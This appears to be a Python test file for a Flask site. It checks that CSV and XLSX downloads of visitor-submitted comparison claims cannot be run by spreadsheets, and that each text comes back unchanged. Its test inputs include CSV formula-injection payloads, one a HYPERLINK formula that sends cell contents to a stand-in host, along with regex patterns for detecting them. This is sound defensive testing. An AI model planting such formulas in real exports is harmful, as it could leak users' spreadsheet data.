"""Downloads with texts of strangers in them: no spreadsheet executes any, and every text comes back as it was sent."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from fwsite.blueprints.comparison.exports import COLUMNS
from fwsite.blueprints.comparison.models import Suggestion
from fwsite.domain.csv_table import read_csv
from fwsite.extend import XLSX_MIMETYPE, db
from tests.blueprints.comparison.test_suggestions import decide, send
from tests.support.people import signed_in
from tests.support.workbooks import Workbook

SUGGESTED = [
    '=HYPERLINK("https://example.org/?"&A1,"press")',
    "+1+2",
    "-1+2 is what it costs",
    "@SUM(1+2)",
    "＝1+2",
    '"=1+2"',
    "fine; =1+2",
    "<r>a & b</r>",
]
"""As typed; the form takes ten an hour."""
SOURCE = {"source_title": "=1+2", "source_url": "https://example.org/=1", "source_words": "- the words;@SUM(1)"}
SITES = ("sqlite", "postgresql")


@pytest.fixture(scope="module")
def app(app_on_each_database: Flask) -> Flask:
    """The application on which strangers have suggested all of these, and a maintainer has published them."""
    app = app_on_each_database
    visitor, maintainer = app.test_client(), signed_in(app)
    about = {"framework": "django", "criterion": "performance", "side": "con"}
    for text in SUGGESTED:
        assert send(visitor, {**about, **SOURCE, "text": text}).status_code == 303
    with app.app_context():
        waiting = list(db.session.scalars(select(Suggestion.id).order_by(Suggestion.id)))
    for number in waiting:
        assert decide(maintainer, number, "publish").status_code == 303
    return app


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return app.test_client()


def claims(client: FlaskClient) -> list[dict[str, Any]]:
    """What the JSON says of the points that strangers have sent."""
    document = client.get("/comparison/data.json").json
    return [claim for claim in document["claims"] if claim["text"] in SUGGESTED]


def test_json_has_the_texts_as_they_were_sent(client: FlaskClient) -> None:
    assert sorted(claim["text"] for claim in claims(client)) == sorted(SUGGESTED)
    assert {source["words"] for claim in claims(client) for source in claim["sources"]} == {SOURCE["source_words"]}


class TestTheCsv:
    def test_has_no_cell_that_a_spreadsheet_executes(self, client: FlaskClient) -> None:
        text = client.get("/comparison/data.csv").text
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        written = {row["text"] for row in rows}
        assert written >= {f"\t{text}" for text in SUGGESTED[:6]} | {"fine;\t =1+2", "<r>a & b</r>"}
        assert {(row["source_titles"], row["source_words"]) for row in rows if "\t" in row["source_words"]} == {
            ("\t=1+2", "\t- the words;\t@SUM(1)")
        }
        cells = [cell for row in rows for cell in row.values()]
        assert not [cell for cell in cells if re.match(r"[=+\-@\r]", cell)]
        assert not [cell for cell in cells if re.search(r"[;\r\n][ \"']*[=+\-@]", cell)]

    def test_gives_every_text_back_exactly(self, client: FlaskClient) -> None:
        headings, *rows = read_csv(client.get("/comparison/data.csv").text)
        assert headings == list(COLUMNS)
        found = {row["text"]: row for row in (dict(zip(headings, row, strict=True)) for row in rows)}
        for text in SUGGESTED:
            row = found[text]
            assert row["source_titles"] == SOURCE["source_title"]
            assert row["source_urls"] == SOURCE["source_url"]
            assert row["source_words"] == SOURCE["source_words"]

    def test_has_numbers_without_quotes_and_no_byte_order_mark(self, client: FlaskClient) -> None:
        response = client.get("/comparison/data.csv")
        assert response.data.startswith(b'"kind","framework"')
        ratings = [line for line in response.text.splitlines() if line.startswith('"rating"')]
        assert ratings
        assert all(re.match(r'"rating","[^"]*","[^"]*","","",[1-5],"', line) for line in ratings)


class TestTheWorkbook:
    def test_says_the_same_as_the_csv(self, client: FlaskClient) -> None:
        book = Workbook(client.get("/comparison/data.xlsx").data)
        headings, *rows = read_csv(client.get("/comparison/data.csv").text)
        assert book.headings == headings
        assert [{name: str(value) for name, value in row.items()} for row in book.rows] == [
            {name: value for name, value in zip(headings, row, strict=True) if value} for row in rows
        ]

    def test_has_texts_as_texts_numbers_as_numbers_and_days_as_days(self, client: FlaskClient) -> None:
        book = Workbook(client.get("/comparison/data.xlsx").data)
        assert {row["text"] for row in book.rows} >= set(SUGGESTED)
        assert book.does_something == []
        assert all(book.stays_text(text) for text in SUGGESTED[:6])
        assert {type(row["score"]) for row in book.rows if row["kind"] == "rating"} == {int}
        assert {type(row["reviewed_on"]) for row in book.rows if "reviewed_on" in row} == {date}
        assert {type(row["text"]) for row in book.rows if row["kind"] == "first_release"} == {int}
        assert {type(row["source_urls"]) for row in book.rows if "source_urls" in row} == {str}
        assert book.frozen == "A2"

    def test_takes_the_same_filter_as_the_page(self, client: FlaskClient) -> None:
        rows = Workbook(client.get("/comparison/data.xlsx?f=flask").data).rows
        assert {row["framework"] for row in rows if row["kind"] == "claim"} == {"Flask"}

    @pytest.mark.parametrize("address", ["/comparison/", "/comparison/?f=flask&f=django", "/comparison/django"])
    def test_is_linked_where_the_csv_is(self, client: FlaskClient, address: str) -> None:
        page = client.get(address).text
        others = re.findall(r'href="([^"]*/data\.csv[^"]*)"', page)
        assert others
        assert re.findall(r'href="([^"]*/data\.xlsx[^"]*)"', page) == [each.replace(".csv", ".xlsx") for each in others]

    @pytest.mark.parametrize("query", ["", "?f=django"])
    def test_is_sent_and_kept_by_caches_as_the_csv_is(self, client: FlaskClient, query: str) -> None:
        book, table = (client.get(f"/comparison/data.{name}{query}") for name in ("xlsx", "csv"))
        assert book.content_type == XLSX_MIMETYPE
        assert book.headers["Content-Disposition"] == "inline; filename=comparison.xlsx"
        for name in ("Cache-Control", "X-Content-Type-Options", "Content-Security-Policy"):
            assert book.headers[name] == table.headers[name]
        head = client.head(f"/comparison/data.xlsx{query}")
        assert (head.status_code, head.data) == (200, b"")
        assert head.headers["Content-Length"] == str(len(book.data))
        assert head.headers["ETag"] == book.headers["ETag"]
        again = client.get(f"/comparison/data.xlsx{query}", headers={"If-None-Match": book.headers["ETag"]})
        assert (again.status_code, again.data) == (304, b"")

    @pytest.mark.parametrize("encoding", ["br", "gzip"])
    def test_is_not_packed_again(self, client: FlaskClient, encoding: str) -> None:
        response = client.get("/comparison/data.xlsx", headers={"Accept-Encoding": encoding})
        assert "Content-Encoding" not in response.headers
        assert response.data.startswith(b"PK")
